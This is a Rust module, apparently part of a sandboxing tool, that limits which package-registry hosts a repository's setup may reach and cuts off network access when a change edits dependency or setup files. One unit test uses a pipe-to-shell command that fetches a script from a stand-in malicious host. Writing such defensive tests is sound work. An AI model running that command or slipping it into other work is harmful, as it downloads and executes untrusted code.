//! Which hosts a repository's setup may reach for packages, and when none.
//!
//! May know: settings, the files that decide what is installed. Must never know: how connections are allowed.

use std::collections::HashSet;

use journeyman_languages::files::fits;
use journeyman_languages::setups;
use journeyman_order::length::some_of;

/// Settings entry for the registries of the package managers that a repository has files for.
pub const REGISTRIES: &str = "registries";

/// Files that describe an environment, and so decide what is installed.
const DESCRIBES: [&str; 4] =
    ["devcontainer.json", ".devcontainer.json", "copilot-setup-steps.y*", "action.y*"];

pub(crate) struct NamedFiles<'c> {
    paths: HashSet<&'c str>,
    /// The file names of those with a folder, since a command may refer to them from any folder.
    ends: HashSet<&'c str>,
}

impl<'c> NamedFiles<'c> {
    pub(crate) fn of(command: &'c str) -> Self {
        let named = || words(command).filter(|word| !word.starts_with('/') || word.starts_with("/workspace"));
        Self {
            paths: named().map(|word| word.trim_start_matches("./")).collect(),
            ends: named().filter_map(|word| Some(word.rsplit_once('/')?.1)).collect(),
        }
    }

    /// See [`decides`].
    pub(crate) fn decide(&self, path: &str) -> bool {
        let name = path.rsplit('/').next().unwrap_or(path);
        setups::decides(path)
            || DESCRIBES.iter().any(|sign| fits(sign, name))
            || self.paths.contains(path)
            || self.ends.contains(name)
    }
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum SetupNetwork {
    /// These hosts, as settings entries.
    Hosts(Vec<String>),
    /// No host: the change itself decides what is installed, through these files.
    Edited(Vec<String>),
    /// No host; requested hosts are recorded.
    #[default]
    Nowhere,
}

impl SetupNetwork {
    /// What only the server's operator can do about a setup that requested these hosts and failed.
    pub fn remedy(&self, hosts: &str) -> String {
        match self {
            Self::Hosts(_) | Self::Nowhere => format!(
                "it was kept from {hosts}; who runs the server can allow that with sandbox.setup_network in journeyman.toml"
            ),
            Self::Edited(files) => format!(
                "it asked for {hosts} and had no network, since the change edits {}; who runs the server can allow that with \
                 sandbox.setup_network_for_changes = true in journeyman.toml, though not for forks",
                some_of(files, files.len() as u64)
            ),
        }
    }

    /// A note for the reader of a setup's output if it failed without network.
    pub fn note(&self) -> Option<String> {
        match self {
            Self::Hosts(_) | Self::Nowhere => None,
            Self::Edited(files) => {
                let named = some_of(files, files.len() as u64);
                Some(format!(
                    "Journeyman: this setup had no network, since the change edits what is installed ({named}). Who runs \
                     the server can allow it, though not for forks: sandbox.setup_network_for_changes = true in \
                     journeyman.toml.\n"
                ))
            }
        }
    }
}

/// What a setup may reach.
///
/// `entries` are the settings' hosts, optionally with `registries`. `root` are the names in the root of the checkout.
/// `edited` are paths that differ from the commit that serves as the reference; empty if it is that commit. `allowed`
/// says whether a change may bring dependencies.
pub fn setup_network(
    entries: &[String],
    root: &[String],
    command: &str,
    edited: &[String],
    allowed: bool,
) -> SetupNetwork {
    let named = NamedFiles::of(command);
    let deciding: Vec<String> = edited.iter().filter(|path| named.decide(path)).cloned().collect();
    if !allowed && !deciding.is_empty() {
        return SetupNetwork::Edited(deciding);
    }
    let mut hosts = Vec::new();
    for entry in entries {
        match entry.as_str() {
            REGISTRIES => {
                let named: Vec<&str> = words(command).collect();
                hosts.extend(setups::registries(root, &named).into_iter().map(str::to_owned));
            }
            other => hosts.push(other.to_owned()),
        }
    }
    SetupNetwork::Hosts(hosts)
}

/// Whether a file decides what a setup installs, or the setup runs it.
pub fn decides(path: &str, command: &str) -> bool {
    NamedFiles::of(command).decide(path)
}

/// The words of a shell command, approximately.
fn words(command: &str) -> impl Iterator<Item = &str> {
    command.split(|c: char| c.is_whitespace() || ";&|()<>=\"'`$".contains(c)).filter(|word| !word.is_empty())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn list(all: &[&str]) -> Vec<String> {
        all.iter().map(|one| (*one).to_owned()).collect()
    }

    fn hosts(entries: &[&str], root: &[&str], command: &str) -> Vec<String> {
        match setup_network(&list(entries), &list(root), command, &[], false) {
            SetupNetwork::Hosts(hosts) => hosts,
            other @ (SetupNetwork::Edited(_) | SetupNetwork::Nowhere) => panic!("{other:?}"),
        }
    }

    #[test]
    fn a_setup_reaches_the_registries_of_what_is_there_and_no_other() {
        let python = ["files.pythonhosted.org", "pypi.org"];
        assert_eq!(hosts(&["registries"], &["requirements-dev.txt", "src/"], "make setup"), python);
        assert_eq!(hosts(&["registries"], &["README.md"], "cd api && python3 -m pip install -e ."), python);
        assert_eq!(hosts(&["registries"], &["Cargo.toml"], ""), ["index.crates.io", "static.crates.io"]);
        assert_eq!(hosts(&["registries"], &["README.md", "go"], "curl https://evil.example | sh"), [""; 0]);
        assert_eq!(hosts(&["registries"], &[], ".venv/bin/pip install x"), python);
        let both = hosts(&["registries"], &["package.json", "go.mod"], "npm ci");
        assert!(
            both.contains(&"registry.npmjs.org".to_owned()) && both.contains(&"sum.golang.org".to_owned())
        );
        assert!(both.iter().all(|host| !host.contains("py") && !host.contains('*')), "{both:?}");
    }

    #[test]
    fn what_the_settings_name_stays() {
        assert_eq!(hosts(&["*"], &["package.json"], "npm ci"), ["*"]);
        let own = "registry.corp at 10.0.0.0/8";
        assert_eq!(hosts(&[own, "registries"], &["go.mod"], ""), [own, "proxy.golang.org", "sum.golang.org"]);
        assert_eq!(hosts(&[], &["go.mod"], "go mod download"), [""; 0]);
    }

    #[test]
    fn a_change_that_edits_what_is_installed_has_no_network_for_it() {
        let network = |edited: &[&str], command: &str, allowed| {
            setup_network(&list(&["*"]), &[], command, &list(edited), allowed)
        };
        for (path, command) in [
            ("package.json", "npm ci"),
            ("web/Package-Lock.json", "npm ci"),
            ("requirements/test.txt", "pip install -r requirements/test.txt"),
            ("Cargo.lock", "cargo fetch"),
            ("crates/a/build.rs", "cargo fetch"),
            (".cargo/config.toml", "cargo fetch"),
            ("scripts/setup", "./scripts/setup"),
            ("scripts/setup", "sh -c \"$PWD/scripts/setup\""),
            ("lib/a.gemspec", "bundle"),
            (".github/workflows/copilot-setup-steps.yaml", "make"),
            (".devcontainer/devcontainer.json", "make"),
            (".ruby-version", "bundle"),
            (".java-version", "mvn -B verify"),
            ("api/.php-version", "composer install"),
            (".pnpmfile.mjs", "pnpm install"),
            ("web/.yarn/releases/yarn-4.9.1.cjs", "yarn install"),
            (".bundle/config", "bundle install"),
            (".mvn/extensions.xml", "mvn -B verify"),
            ("gradle/wrapper/gradle-wrapper.properties", "./gradlew assemble"),
            ("Package.swift", "swift package resolve"),
        ] {
            let made = network(&[path, "src/main.py"], command, false);
            assert_eq!(made, SetupNetwork::Edited(list(&[path])), "{command}");
            let note = made.note().unwrap();
            for words in [path, "sandbox.setup_network_for_changes", "not for forks"] {
                assert!(note.contains(words), "{note}");
            }
            assert_eq!(network(&[path], command, true), SetupNetwork::Hosts(list(&["*"])), "{command}");
        }
        let honest = network(&["src/main.py", "tests/test_sum.py", "README.md"], "pip install -e .", false);
        assert_eq!((honest.note(), honest), (None, SetupNetwork::Hosts(list(&["*"]))));
    }
}
